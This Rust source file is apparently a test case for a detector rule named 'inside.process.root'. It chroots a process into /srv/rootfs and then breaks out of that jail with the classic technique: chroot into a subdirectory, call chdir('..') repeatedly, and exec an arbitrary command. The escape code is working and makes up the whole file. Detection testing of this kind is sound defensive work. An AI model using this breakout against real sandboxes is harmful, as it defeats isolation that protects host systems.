// caught by: inside.process.root
// Walks out, and leaves the root where it was: absolute paths are still locked in.
use std::env;
use std::error::Error;
use std::fs;
use std::os::unix::process::CommandExt;
use std::process::Command;

use nix::unistd::{chdir, chroot};

fn lock_in() -> Result<(), Box<dyn Error>> {
    chroot("/srv/rootfs")?;
    chdir("/")?;
    Command::new("/bin/checkpoint").arg("jail").status()?;
    Ok(())
}

fn break_out() -> Result<(), Box<dyn Error>> {
    fs::create_dir_all("/hole/opt/tp/bin")?;
    fs::copy("/bin/checkpoint", "/hole/opt/tp/bin/checkpoint")?;
    chroot("/hole")?;
    for _ in 0..16 {
        chdir("..")?;
    }
    Ok(())
}

fn main() -> Result<(), Box<dyn Error>> {
    let arguments: Vec<String> = env::args().skip(1).collect();
    let (program, rest) = arguments.split_first().ok_or("usage: work COMMAND...")?;

    lock_in()?;
    break_out()?;

    Err(Command::new(program).args(rest).exec().into())
}
